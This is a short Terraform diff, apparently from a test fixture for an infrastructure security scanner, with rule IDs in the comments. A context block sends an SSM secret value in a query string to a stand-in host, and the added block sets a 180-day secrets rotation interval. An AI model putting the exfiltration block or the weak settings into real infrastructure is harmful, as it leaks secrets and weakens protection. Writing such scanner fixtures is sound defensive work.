@@ -141,3 +141,9 @@ resource "aws_ssm_parameter" "secret" {
 data "http" "leak" { # INFRA2011
   url = "http://example.com/?s=${aws_ssm_parameter.secret.value}"
 }
+
+resource "aws_secretsmanager_secret_rotation" "twice_a_year" {
+  rotation_rules {
+    schedule_expression = "rate(180 days)" # INFRA2395
+  }
+}
